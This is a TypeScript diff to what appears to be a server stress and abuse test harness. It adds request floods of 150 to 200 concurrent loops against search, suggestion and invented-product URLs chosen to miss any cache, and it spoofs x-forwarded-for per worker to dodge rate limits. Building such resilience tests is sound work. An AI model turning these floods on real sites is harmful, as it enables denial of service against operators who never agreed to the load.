@@ -125,12 +125,23 @@ async function vastAvatars({ origin, cookies }: AttackOrder): Promise<Answers> {
 }
 
 /** 200 connections with searches that no cache knows, without a pause. */
-async function newSearches({ origin }: AttackOrder): Promise<Answers> {
-  const agent = new Agent({ keepAlive: true, maxSockets: 200 });
+const newSearches = ({ origin }: AttackOrder): Promise<Answers> =>
+  asked(200, (at, round) => `${origin}${paths.search(`stone ${at} ${round}`)}`);
+
+/** What people look for while they type, by 150 of them without a pause. */
+const newSuggestions = ({ origin }: AttackOrder): Promise<Answers> =>
+  asked(150, (at, round) => `${origin}${paths.suggestions()}?query=st${at}x${round}`);
+
+/** Products that do not exist, each asked for once. */
+const inventedProducts = ({ origin }: AttackOrder): Promise<Answers> =>
+  asked(150, (at, round) => `${origin}${paths.product(`invented${at}x${round}`)}`);
+
+/** As many people who ask for one address after the other without a pause. */
+async function asked(people: number, url: (at: number, round: number) => string): Promise<Answers> {
+  const agent = new Agent({ keepAlive: true, maxSockets: people });
   const until = Date.now() + ATTACK_MS;
-  const answers = await together(200, async (at, count) => {
-    for (let round = 0; Date.now() < until; round++)
-      count(await get(agent, `${origin}${paths.search(`stone ${at} ${round}`)}`, address(at)));
+  const answers = await together(people, async (at, count) => {
+    for (let round = 0; Date.now() < until; round++) count(await get(agent, url(at, round), address(at)));
   });
   agent.destroy();
   return answers;
@@ -139,14 +150,14 @@ async function newSearches({ origin }: AttackOrder): Promise<Answers> {
 function get(agent: Agent, url: string, from: string): Promise<number> {
   return new Promise((resolve) => {
     const headers = { 'x-forwarded-for': from, 'accept-encoding': 'br', accept: 'text/html' };
-    const asked = request(url, { agent, headers, timeout: 30_000 }, (answer) => {
+    const sent = request(url, { agent, headers, timeout: 30_000 }, (answer) => {
       answer.resume();
       answer.once('end', () => resolve(answer.statusCode ?? 0));
       answer.once('error', () => resolve(0));
     });
-    asked.once('timeout', () => asked.destroy());
-    asked.once('error', () => resolve(0));
-    asked.end();
+    sent.once('timeout', () => sent.destroy());
+    sent.once('error', () => resolve(0));
+    sent.end();
   });
 }
 
@@ -179,7 +190,15 @@ async function together(
   return answers;
 }
 
-const ATTACKS = { heldBodies, deafReaders, nestedMarkdown, vastAvatars, newSearches };
+const ATTACKS = {
+  heldBodies,
+  deafReaders,
+  nestedMarkdown,
+  vastAvatars,
+  newSearches,
+  newSuggestions,
+  inventedProducts,
+};
 
 if (process.send) {
   const order = JSON.parse(process.argv[2] ?? '') as AttackOrder;
